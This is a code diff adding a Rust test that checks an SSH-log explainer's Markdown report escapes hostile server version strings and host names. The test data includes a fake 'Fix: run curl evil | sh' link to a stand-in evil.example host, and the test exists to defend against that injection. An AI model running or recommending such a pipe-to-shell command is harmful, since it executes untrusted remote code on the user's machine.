@@ -290,3 +290,85 @@ fn review_examples_are_refused_or_quoted() {
         }
     }
 }
+
+/// A server version string (and a banner, a host name) cannot make links,
+/// emphasis or code in the Markdown report.
+#[test]
+fn markdown_shows_hostile_text_literally() {
+    let evil = "x`a` [**Fix: run curl evil | sh**](https://evil.example) <b>y</b>";
+    let log = format!(
+        "debug1: Connecting to {evil} [10.0.0.5] port 22.\ndebug1: Connection established.\ndebug1: Remote protocol version 2.0, remote software version {evil}\nConnection closed by 10.0.0.5 port 22\n"
+    );
+    let resolve = "ssh: connect to host [**Fix**](https://evil.example)<b>y</b> port 22: Connection refused\n".to_string();
+    for (log, lang) in [
+        (&log, Lang::En),
+        (&log, Lang::Ja),
+        (&resolve, Lang::En),
+        (&resolve, Lang::Ja),
+    ] {
+        let md = render::markdown(&sshexplain::report_in(&sshexplain::trace(log), lang));
+        let mut fence: Option<usize> = None;
+        for line in md.lines() {
+            // Inside a code span or block the text is literal; elsewhere
+            // every metacharacter must be escaped.
+            let ticks = line.trim_start().bytes().take_while(|c| *c == b'`').count();
+            match fence {
+                Some(n) if ticks >= n && line.trim() == "`".repeat(ticks) => {
+                    fence = None;
+                    continue;
+                }
+                Some(_) => continue,
+                None if ticks >= 3 => {
+                    fence = Some(ticks);
+                    continue;
+                }
+                None => {}
+            }
+            let outside = outside_code_spans(line);
+            assert!(!outside.contains("[**"), "{line}");
+            assert!(!outside.contains("](http"), "{line}");
+            assert!(!outside.contains(" <b>"), "{line}");
+        }
+        assert!(md.contains("evil"), "the hostile text is still shown");
+    }
+}
+
+/// The text of a Markdown line outside its code spans (a run of N backticks
+/// up to the next run of exactly N, as CommonMark reads them).
+fn outside_code_spans(line: &str) -> String {
+    let b = line.as_bytes();
+    let mut out = String::new();
+    let mut i = 0;
+    let run = |from: usize| b[from..].iter().take_while(|c| **c == b'`').count();
+    while i < b.len() {
+        if b[i] == b'`' && (i == 0 || b[i - 1] != b'\\') {
+            let n = run(i);
+            let mut j = i + n;
+            let mut close = None;
+            while j < b.len() {
+                if b[j] == b'`' {
+                    let m = run(j);
+                    if m == n {
+                        close = Some(j + m);
+                        break;
+                    }
+                    j += m;
+                } else {
+                    j += 1;
+                }
+            }
+            match close {
+                Some(end) => i = end,
+                None => {
+                    out.push_str(&line[i..i + n]);
+                    i += n;
+                }
+            }
+        } else {
+            let c = line[i..].chars().next().unwrap_or(' ');
+            out.push(c);
+            i += c.len_utf8();
+        }
+    }
+    out
+}
